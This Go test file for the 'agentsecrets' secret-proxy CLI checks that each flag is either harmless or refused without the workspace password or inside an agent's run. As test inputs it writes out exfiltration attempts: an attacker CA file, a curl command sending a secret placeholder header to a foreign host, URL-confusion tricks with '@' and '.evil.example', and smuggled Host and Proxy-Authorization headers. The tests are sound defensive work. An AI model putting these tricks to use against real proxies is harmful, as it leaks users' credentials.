package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// harmless are the flags that decide neither where a value goes nor what is printed
// of one, by reason. Each is "command --flag", without the program's name.
func harmless() map[string][]string {
	return map[string][]string{
		"how results look, or what of names is listed": {
			"--output", "--version", "call --include", "run --quiet", "env --quiet", "proxy env --shell", "proxy env --unset",
			"proxy logs --env", "proxy logs --follow", "proxy logs --last", "explain --last", "proxy logs --secret", "proxy logs --status", "workspace allowlist log --last", "doctor --verbose",
			"completion bash --no-descriptions", "completion fish --no-descriptions", "completion powershell --no-descriptions", "completion zsh --no-descriptions",
		},
		"it asks nobody, which never makes anything allowed": {"--no-input"},
		"it says what would happen, and sends nothing": {
			"allowlist test --agent", "workspace allowlist test --agent",
			"allowlist test --in", "allowlist test --method", "allowlist test --name", "allowlist test --no-lookup", "allowlist test --resolve",
			"workspace allowlist test --in", "workspace allowlist test --method", "workspace allowlist test --name", "workspace allowlist test --no-lookup", "workspace allowlist test --resolve",
			"environment clean --dry-run", "environment copy --dry-run", "environment merge --dry-run", "project delete --dry-run", "secrets import --dry-run", "workspace delete --dry-run",
		},
		"it says what the trust stores of this machine hold, and touches no value":       {"ca install --store", "ca status --store", "ca uninstall --store"},
		"it removes records, which hold names":                                           {"log prune --keep", "log prune --older-than"},
		"it is read as a record, and shown by names":                                     {"explain --audit"},
		"counts, on loopback; names for who has the token":                               {"run --metrics", "env --metrics", "proxy start --metrics", "run --metrics-names", "env --metrics-names", "proxy start --metrics-names"},
		"where programs find the proxy, and how long it stays":                           {"proxy start --port", "proxy start --foreground", "proxy stop --drain"},
		"it wants the passphrase of the store, and gives out nothing":                    {"passphrase set --passphrase-file", "passphrase set --new-passphrase-file", "passphrase remove --passphrase-file", "unlock --for", "unlock --passphrase-file"},
		"how much is under way at once":                                                  each([]string{"run", "env", "proxy start"}, "--max-connections", "--max-run-connections"),
		"it needs a server, and says that there is none":                                 {"workspace invite --role", "project invite --role", "secrets pull --force", "secrets push --force"},
		"what other programs start; it is refused in a run":                              each([]string{"mcp install", "mcp uninstall"}, "--client", "--dry-run"),
		"an agent's limits come to the rules, and nothing else":                          {"mcp serve --token"},
		"it shows what to write":                                                         {"mcp config --client"},
		"it takes rights from others, and removes what was left; it is refused in a run": {"doctor --fix"},
		"it sends a value that was made up, and no secret; it is refused in a run":       {"doctor --clients"},
		"words about a project":                                                          {"project create --description", "project update --description", "project update --name"},
		"it gives a program less, or what it would have had":                             each([]string{"run", "env"}, "--clear-env", "--pass"),
	}
}

// tried are all other flags, by the try that has them.
func tried() map[string][]string {
	origins := func(flags ...string) []string {
		return each([]string{"call", "run", "env", "proxy start"}, flags...)
	}
	return map[string][]string{
		"origins":  origins("--resolve", "--origin-ca", "--parent", "--allow-private"),
		"egress":   origins("--egress", "--tunnel"),
		"records":  origins("--audit", "--audit-sync", "--log-level"),
		"password": append(origins("--password-file"), "init --password-file"),
		"styles": each([]string{"call"}, "--url", "--method", "--bearer", "--basic", "--header", "--query", "--body", "--body-file", "--body-field", "--form-field",
			"--forward-header"),
		"bindings": slices.Concat(
			each([]string{"secrets set", "secrets bind"}, "--host", "--in", "--method", "--no-env", "--password-file", "--path"),
			each([]string{"secrets bind"}, "--clear", "--remove"), each([]string{"secrets set"}, "--allow", "--env-file", "--stdin"),
		),
		"workspaces": {
			"workspace password --password-file", "workspace password --new-password-file", "workspace rename --password-file",
			"workspace delete --password-file", "workspace delete --yes",
		},
		"rules": append(each([]string{"workspace allowlist add", "workspace allowlist remove", "workspace allowlist recover"}, "--password-file"),
			each([]string{"workspace allowlist add"}, "--in", "--private", "--plaintext", "--range", "--ca")...),
		"values": slices.Concat(each([]string{"run", "env"}, "--intercept", "--raw-output"), each([]string{"secrets move"}, "--to", "--password-file"),
			each([]string{"init"}, "--store", "--passphrase", "--passphrase-file")),
		"wholesale": slices.Concat(each([]string{"environment clean", "environment copy", "environment merge", "project delete"}, "--yes"),
			each([]string{"environment merge"}, "--keep", "--overwrite"), each([]string{"secrets import"}, "--format", "--overwrite", "--rename")),
		"tools": each([]string{"mcp serve"}, "--resolve", "--origin-ca", "--parent", "--allow-private", "--egress", "--tunnel", "--password-file",
			"--log-level"),
		"answers": {"proxy start --answered"},
		"agents": slices.Concat(each([]string{"agent register", "agent token issue"}, "--env", "--expires", "--label", "--save-token"),
			each([]string{"agent policy set"}, "--allow", "--deny", "--host", "--method", "--rate"), each([]string{"agent token revoke"}, "--agent", "--all", "--confirm"),
			[]string{"agent delete --confirm"}, each([]string{"call", "run", "env", "proxy env"}, "--token")),
		"elsewhere": {"--workspace", "--project", "--environment"},
	}
}

func each(commands []string, flags ...string) []string {
	var all []string
	for _, c := range commands {
		for _, f := range flags {
			all = append(all, c+" "+f)
		}
	}
	return all
}

func TestEveryFlagIsTried(t *testing.T) {
	said := map[string]int{}
	for _, table := range []map[string][]string{harmless(), tried()} {
		for _, flags := range table {
			for _, f := range flags {
				said[f]++
			}
		}
	}
	there := map[string]bool{}
	for _, f := range allFlags() {
		f = strings.TrimPrefix(f, "agentsecrets ")
		there[f] = true
		if said[f] != 1 {
			t.Errorf("%s stands %d times in harmless and tried, not once", f, said[f])
		}
	}
	for f := range said {
		if !there[f] {
			t.Errorf("there is no flag %s any more", f)
		}
	}
	for name := range tried() {
		if attempts()[name] == nil {
			t.Errorf("no try is called %s", name)
		}
	}
	if len(there) < 100 {
		t.Errorf("only %d flags were found", len(there))
	}
}

// testFlags tries each flag outside a run, without the password, and inside one.
func testFlags(t *testing.T, w *attack) {
	for name, attempt := range attempts() {
		t.Run(name, func(t *testing.T) { attempt(t, w) })
	}
}

func attempts() map[string]func(*testing.T, *attack) {
	return map[string]func(*testing.T, *attack){
		"origins": tryOrigins, "egress": tryEgress, "records": tryRecords, "password": tryPassword, "styles": tryStyles, "bindings": tryBindings,
		"rules": tryRules, "values": tryValues, "wholesale": tryWholesale, "answers": tryAnswers, "elsewhere": tryElsewhere, "workspaces": tryWorkspaces,
		"tools": tryTools, "agents": tryAgents,
	}
}

// everywhere has the commands that open origins make one request with flags, or refuse
// them. env has the flags of run, and is tried with one.
func (w *attack) everywhere(t *testing.T, host string, flags []string, outside, inside try) {
	t.Helper()
	program := append([]string{"--", w.exe}, w.call(host)...)
	for _, command := range [][]string{{"call"}, {"run", "--quiet", "--intercept"}} {
		args := append(slices.Clone(command), flags...)
		at := outside
		if command[0] == "call" {
			args = append(args, w.call(host)[1:]...)
		} else {
			args = append(args, program...)
			if outside.code == exitDenied && strings.Contains(outside.says, "password") {
				at.code = exitOurs
			}
		}
		at.args, at.hint = args, strings.Replace(outside.hint, "COMMAND-HERE", command[0], 1)
		w.fails(t, at)
		in := inside
		if command[0] != "call" && in.code == exitDenied {
			in.code = exitOurs
		}
		in.args, in.inside = args, true
		w.fails(t, in)
	}
}

func tryOrigins(t *testing.T, w *attack) {
	inside := try{code: exitDenied, says: "inside a run --origin-ca, --resolve, --parent, --allow-private"}
	need := try{code: exitDenied, says: "--resolve for " + wantedHost + " needs the password of workspace acme", hint: "agentsecrets COMMAND-HERE … --password-file F"}
	w.everywhere(t, wantedHost, []string{"--origin-ca", w.path("attacker.pem"), "--resolve", w.pin(wantedHost)}, need, inside)
	// Beside a test name, for which it is free.
	w.everywhere(t, wantedHost, []string{"--resolve", w.pin("a.test"), "--resolve", w.pin(wantedHost)}, need, inside)

	untrusted := try{code: 1, says: "origin_untrusted"}
	w.everywhere(t, wantedHost, []string{"--origin-ca", w.path("attacker.pem"), "--parent", "env"}, untrusted, inside)
	w.everywhere(t, wantedHost, []string{"--origin-ca", w.path("attacker.pem"), "--parent", "env", "--resolve", w.pin("a.test")}, untrusted, inside)
	private := try{code: exitDenied, says: "private_address"}
	w.everywhere(t, "127.0.0.1", []string{"--origin-ca", w.path("attacker.pem"), "--allow-private", "--parent", w.parent}, private, inside)

	for _, args := range [][]string{
		{"--resolve", w.pin(wantedHost)}, {"--origin-ca", w.path("attacker.pem")}, {"--allow-private"}, {"--parent", w.parent}, {},
	} {
		args = append([]string{"proxy", "start", "--port", "0"}, args...)
		w.fails(t, try{args: args, inside: true, code: exitDenied, says: "starting the proxy is refused inside a run"})
	}
	args := []string{"env", "--intercept", "--origin-ca", w.path("attacker.pem"), "--resolve", w.pin(wantedHost), "--", "true"}
	w.fails(t, try{args: args, code: exitOurs, says: need.says, hint: "agentsecrets env … --password-file F"})
	w.fails(t, try{args: args, inside: true, code: exitOurs, says: inside.says})
	w.fails(t, try{
		args: []string{"proxy", "start", "--port", "0", "--origin-ca", w.path("attacker.pem"), "--resolve", w.pin(wantedHost)},
		code: exitDenied, says: need.says, hint: "agentsecrets proxy start … --password-file F",
	})
}

// tryEgress: what is relayed carries the placeholder, and what is opened is verified.
func tryEgress(t *testing.T, w *attack) {
	inside := try{code: exitDenied, says: "--egress and --tunnel are refused"}
	for _, mode := range []string{"inspect", "deny", "tunnel"} {
		w.everywhere(t, wantedHost, []string{"--egress", mode, "--parent", "env"}, try{code: 1, says: "origin_untrusted"}, inside)
	}
	client := "curl -s --cacert " + w.path("attacker.pem") + " %s -H 'X-Key: AS_SECRET_" + wantedName + "'"
	for host, flags := range map[string][]string{wantedHost: {"--tunnel", w.host(wantedHost)}, foreignHost: {"--egress", "tunnel"}} {
		args := append([]string{"run", "--quiet", "--intercept"}, flags...)
		w.fails(t, try{args: append(args, "--", "sh", "-c", fmt.Sprintf(client, w.url(host))), says: "arrived", arrives: true})
	}
	w.fails(t, try{args: w.call(wantedHost, "--parent", "env", "--tunnel", w.host(wantedHost)), code: exitDenied, says: "tunnelled_host"})
	for _, flags := range [][]string{{"--egress", "tunnel"}, {"--tunnel", wantedHost}} {
		w.fails(t, try{args: append([]string{"proxy", "start", "--port", "0"}, flags...), inside: true, code: exitDenied, says: "starting the proxy is refused inside a run"})
	}
}

// tryRecords: a record is of names, wherever it is written.
func tryRecords(t *testing.T, w *attack) {
	flags := []string{"--audit", w.path("out") + "/audit.jsonl", "--audit-sync", "--parent", "env", "--log-level", "debug"}
	w.everywhere(t, wantedHost, flags, try{code: 1, says: "origin_untrusted"}, try{code: exitDenied, says: "are refused"})
	w.fails(t, try{args: w.call(wantedHost, flags[:3]...), inside: true, code: exitDenied, says: "inside a run the records are the outer run's"})
	w.fails(t, try{args: slices.Concat([]string{"run", "--intercept"}, flags[:3], []string{"--", "env"}), inside: true, code: exitOurs, says: "inside a run the records are the outer run's"})
	b, err := os.ReadFile(flags[1])
	if err != nil || !strings.Contains(string(b), wantedName) {
		t.Errorf("the record: %s, %v", b, err)
	}
	w.fails(t, try{args: append([]string{"proxy", "start", "--port", "0"}, flags[:3]...), inside: true, code: exitDenied, says: "starting the proxy is refused inside a run"})
}

// tryPassword: neither a wrong password nor a new one opens anything.
func tryPassword(t *testing.T, w *attack) {
	wrong := w.path("wrong") + ": that is not the password of workspace acme"
	inside := try{code: exitDenied, says: "inside a run --origin-ca"}
	flags := []string{"--origin-ca", w.path("attacker.pem"), "--resolve", w.pin(wantedHost), "--password-file", w.path("wrong")}
	w.everywhere(t, wantedHost, flags, try{code: exitDenied, says: wrong, hint: "agentsecrets COMMAND-HERE … --password-file F"}, inside)
	w.fails(t, try{args: append([]string{"proxy", "start", "--port", "0"}, flags...), code: exitDenied, says: wrong, hint: "agentsecrets proxy start … --password-file F"})
	w.fails(t, try{args: []string{"init", "--password-file", w.path("wrong")}, says: "has a password already and keeps it"})
	w.fails(t, try{args: []string{"init", "--password-file", w.path("wrong")}, inside: true, code: exitDenied, says: "setting up a project is refused inside a run"})
	w.everywhere(t, wantedHost, flags, try{code: exitDenied, says: wrong}, inside)
}

// tryStyles: where a call puts the value does not say where it goes.
func tryStyles(t *testing.T, w *attack) {
	body := w.path("out") + "/body"
	writeFile(t, body, `{"key":"AS_SECRET_`+wantedName+`"}`)
	for _, style := range [][]string{
		{"--bearer", wantedName}, {"--basic", wantedName}, {"--header", "X-Key=" + wantedName}, {"--query", "k=" + wantedName},
		{"--method", "POST", "--body-field", "k=" + wantedName}, {"--form-field", "k=" + wantedName}, {"--body", "AS_SECRET_" + wantedName, "--bearer", wantedName},
		{"--body-file", body, "--body-field", "key=" + wantedName}, {"--forward-header", "Authorization: Bearer AS_SECRET_" + wantedName},
	} {
		for _, inside := range []bool{false, true} {
			at := try{inside: inside, code: exitDenied, says: "domain_not_in_allowlist: " + w.host(foreignHost) + " is not in the allowlist", hint: "agentsecrets workspace allowlist add " + w.host(foreignHost)}
			at.args = append([]string{"call", "--url", w.url(foreignHost)}, style...)
			if !inside {
				at.args = append(at.args, "--parent", "env")
			}
			w.fails(t, at)
		}
	}
	for _, url := range []string{
		"https://" + wantedHost + "@" + w.host(foreignHost) + "/", w.url(foreignHost) + "#" + wantedHost, "http://" + w.host(wantedHost) + "/", "https://" + w.host(wantedHost+".evil.example") + "/",
	} {
		out, _ := w.command(nil, w.exe, "call", "--parent", "env", "--url", url, "--bearer", wantedName).CombinedOutput()
		w.clean(t, url, out, false)
	}
	for _, field := range []string{"Host: " + foreignHost, "X-Forwarded-Host: " + foreignHost, "Proxy-Authorization: AS_SECRET_" + wantedName, "Connection: Authorization"} {
		out, _ := w.command(nil, w.exe, w.call(wantedHost, "--parent", "env", "--forward-header", field)...).CombinedOutput()
		w.clean(t, field, out, false)
	}
}

// refused has args refused outside a run, for want of the password, and inside one.
func (w *attack) refused(t *testing.T, command string, args []string, stdin, says, inside string) {
	t.Helper()
	words := append(strings.Fields(command), args...)
	w.fails(t, try{args: words, stdin: stdin, code: exitDenied, says: says, hint: "agentsecrets " + command + " … --password-file F"})
	w.fails(t, try{args: append(slices.Clone(words), "--password-file", w.path("wrong")), stdin: stdin, code: exitDenied, says: "that is not the password"})
	w.fails(t, try{args: words, stdin: stdin, inside: true, code: exitDenied, says: inside + " is refused inside a run"})
}

func tryBindings(t *testing.T, w *attack) {
	const inside = "changing what a secret is bound to"
	further := "letting " + wantedName + " go further than now needs the password of workspace acme"
	w.refused(t, "secrets bind", []string{wantedName, "--in", "body:any"}, "", further, inside)
	w.refused(t, "secrets set", []string{wantedName, "--in", "body:any", "--stdin"}, wantedValue, further, changingSecrets)
	w.refused(t, "secrets set", []string{wantedName, "--host", w.host(foreignHost), "--allow", "--stdin"}, wantedValue,
		"allowing "+w.host(foreignHost)+" needs the password of workspace acme", changingSecrets)
	w.write(t, "some.env", wantedName+"='"+wantedValue+"'\n")
	w.refused(t, "secrets set", []string{"--env-file", w.path("some.env"), "--host", w.host(foreignHost), "--allow"}, "",
		"allowing "+w.host(foreignHost)+" needs the password of workspace acme", changingSecrets)

	// Narrower is free, and makes nothing allowed.
	w.mustDo(t, "", "secrets", "bind", wantedName, "--host", w.host(foreignHost), "--method", "GET", "--path", "/v1", "--no-env")
	w.fails(t, try{args: w.call(foreignHost, "--parent", "env"), code: exitDenied, says: "domain_not_in_allowlist"})
	w.fails(t, try{args: w.call(wantedHost, "--parent", "env"), code: exitDenied, says: "binding_denied"})
	for _, wider := range [][]string{{"--clear", "all"}, {"--clear", "host"}, {"--host", w.host(wantedHost)}, {"--remove", "--no-env"}, {"--method", "POST"}, {"--path", "/v2"}, {"--clear", "no-env"}} {
		w.refused(t, "secrets bind", append([]string{wantedName}, wider...), "", further, inside)
	}
	w.mustDo(t, "", "secrets", "bind", wantedName, "--clear", "all", "--password-file", w.path("pw"))
}

func tryRules(t *testing.T, w *attack) {
	adding := "allowing " + w.host(foreignHost)
	w.refused(t, "workspace allowlist add", []string{w.host(foreignHost)}, "", adding+" needs the password of workspace acme", adding)
	w.refused(t, "workspace allowlist add", []string{w.host(foreignHost), "--in", "header"}, "", adding+" --in header needs the password of workspace acme", adding+" --in header")
	for _, option := range [][]string{{"--private"}, {"--plaintext"}, {"--range"}, {"--ca", w.path("attacker.pem")}} { // of a rule that is there
		w.refused(t, "workspace allowlist add", append([]string{w.host(wantedHost)}, option...), "", "needs the password of workspace acme", "")
	}
	removing := "removing " + w.host(wantedHost)
	w.refused(t, "workspace allowlist remove", []string{w.host(wantedHost)}, "", removing+" needs the password of workspace acme", removing)

	// The file itself: what was written past us allows nothing, and is not taken in without the password.
	policies, err := filepath.Glob(w.path("home") + "/policy/*.json")
	if err != nil || len(policies) != 1 {
		t.Fatalf("policies: %q, %v", policies, err)
	}
	before, err := os.ReadFile(policies[0])
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, policies[0], strings.ReplaceAll(string(before), wantedHost, foreignHost))
	w.fails(t, try{args: w.call(foreignHost, "--parent", "env"), code: 1, says: "policy_seal_broken", hint: "agentsecrets workspace allowlist recover --password-file F"})
	w.refused(t, "workspace allowlist recover", nil, "", "needs the password of workspace acme", "recovering the policy")
	writeFile(t, policies[0], string(before))
}

// tryWorkspaces: the password gives way to nobody who does not know it.
func tryWorkspaces(t *testing.T, w *attack) {
	for _, c := range []struct {
		command string
		args    []string
		what    string
	}{
		{"workspace password", []string{"--new-password-file", w.path("wrong")}, "changing the password of workspace acme"},
		{"workspace rename", []string{"acme", "beta"}, "changing the name of workspace acme"},
	} {
		w.refused(t, c.command, c.args, "", c.what+" needs the password of workspace acme", c.what)
	}
	args := []string{"workspace", "delete", "acme", "--yes"}
	w.fails(t, try{args: args, code: exitDenied, says: "needs the password of workspace acme", hint: "agentsecrets workspace delete … --password-file F"})
	args = append(args, "--password-file")
	w.fails(t, try{args: append(args, w.path("wrong")), code: exitDenied, says: "that is not the password of workspace acme"})
	w.fails(t, try{args: append(args, w.path("pw")), inside: true, code: exitDenied, says: "deleting workspace acme is refused inside a run"})
}

// tryValues: what gives values to a program, or moves them, does so outside a run alone.
func tryValues(t *testing.T, w *attack) {
	for _, command := range []string{"run", "env"} {
		for _, flags := range [][]string{{}, {"--raw-output"}, {"--intercept=false"}} {
			args := slices.Concat([]string{command}, flags, []string{"--", "env"})
			w.fails(t, try{args: args, inside: true, code: exitOurs, says: "a program inside a run is not given values", hint: "agentsecrets run --intercept -- env"})
		}
		w.fails(t, try{args: []string{command, "--intercept", "--", "env"}, says: wantedName + "=AS_SECRET_" + wantedName})
		w.fails(t, try{args: []string{command, "--", "env"}, says: wantedName + "=[REDACTED_BY_AGENTSECRETS]"})
	}
	w.refused(t, "secrets move", []string{"--to", "keychain"}, "", "moving secrets to the OS keychain needs the password of workspace acme", "moving secrets")
	w.fails(t, try{args: []string{"init", "--store", "keychain"}, code: 1, says: "keychain"})
	for _, flags := range [][]string{{"--passphrase-file", w.path("wrong")}, {"--store", "file", "--passphrase", "--passphrase-file", w.path("wrong")}} {
		w.fails(t, try{args: append([]string{"init"}, flags...), inside: true, code: exitDenied, says: "setting up a project is refused inside a run"})
	}
}

// tryWholesale: values go from one environment to another, and stay in the store; in a
// run not even that.
func tryWholesale(t *testing.T, w *attack) {
	w.write(t, "more.env", "OTHER_KEY=some-other-value-of-length\n")
	for _, args := range [][]string{
		{"environment", "copy", "development", "staging", "--yes"}, {"environment", "merge", "development", "staging", "--yes", "--overwrite"},
		{"environment", "merge", "development", "staging", "--yes", "--keep"}, {"secrets", "import", w.path("more.env"), "--overwrite", "--rename", "--format", "dotenv"},
		{"environment", "clean", "staging", "--yes"},
	} {
		w.fails(t, try{args: args})
	}
	for _, args := range [][]string{
		{"environment", "copy", "development", "production", "--yes"}, {"environment", "merge", "development", "production", "--yes", "--overwrite"},
		{"secrets", "import", w.path("more.env"), "--rename", "--overwrite"}, {"environment", "clean", "development", "--yes"}, {"project", "delete", "pay", "--yes"},
	} {
		w.fails(t, try{args: args, inside: true, code: exitDenied, says: changingSecrets + " is refused inside a run"})
	}
}

// tryAnswers: who starts the proxy by hand has no answers to give but the password.
func tryAnswers(t *testing.T, w *attack) {
	args := []string{"proxy", "start", "--foreground", "--answered", "--port", "0", "--origin-ca", w.path("attacker.pem"), "--resolve", w.pin(wantedHost)}
	for _, answers := range []string{`{"confirmed":"--resolve for ` + wantedHost + `"}`, `{"password":"YmF0dGVyeSBzdGFwbGU="}`} {
		for _, inside := range []bool{false, true} {
			words := append([]string{"-c", `exec timeout 20 "$0" "$@" 3<<'E'` + "\n" + answers + "\nE\n", w.exe}, args...)
			name, says := "sh", "needs the password of workspace acme"
			if strings.Contains(answers, "password") {
				says = "that is not the password of workspace acme"
			}
			if inside {
				name, words, says = w.exe, append([]string{"run", "--quiet", "--intercept", "--", "sh"}, words...), "starting the proxy is refused inside a run"
			}
			out, _ := w.command(nil, name, words...).CombinedOutput()
			if !strings.Contains(string(out), says) {
				t.Errorf("answers %s: %s", answers, out)
			}
			w.clean(t, "answers "+answers, out, false)
		}
	}
}
